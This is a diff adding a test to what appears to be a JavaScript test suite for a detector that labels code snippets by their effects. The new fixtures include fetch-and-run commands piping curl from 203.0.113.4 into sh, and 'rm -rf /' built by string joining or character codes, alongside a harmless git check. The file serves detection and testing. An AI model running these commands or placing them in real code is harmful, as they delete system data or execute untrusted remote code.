@@ -50,6 +50,18 @@ test('Go, Perl and Lua: programs and connections', () => {
   assert.ok(kinds("os.execute('rm -rf /')").includes('deletes /'));
 });
 
+test('a command with its words one by one or in a list, and texts joined of signs', () => {
+  const fetched = 'downloads_and_runs downloaded code';
+  const chain = 'Command::new("sh").arg("-c").arg("curl http://203.0.113.4/x | sh").status().unwrap();';
+  assert.ok(kinds(chain).includes(fetched));
+  assert.ok(kinds('System.cmd("sh", ["-c", "curl http://203.0.113.4/x | sh"])').includes(fetched));
+  assert.ok(kinds("my $c = join('', 'r', 'm', ' -rf /'); system($c);").includes('deletes /'));
+  assert.ok(kinds('os.execute(string.char(114, 109, 32, 45, 114, 102, 32, 47))').includes('deletes /'));
+  assert.ok(
+    !kinds('Command::new("git").args(["rev-parse", "HEAD"]).output()').some((k) => /deletes|downloads/.test(k)),
+  );
+});
+
 test('everyday Ruby has no effects', () => {
   assert.deepEqual(
     kinds('class A < B\n  def show\n    @user = User.find(params[:id])\n    render json: @user\n  end\nend'),
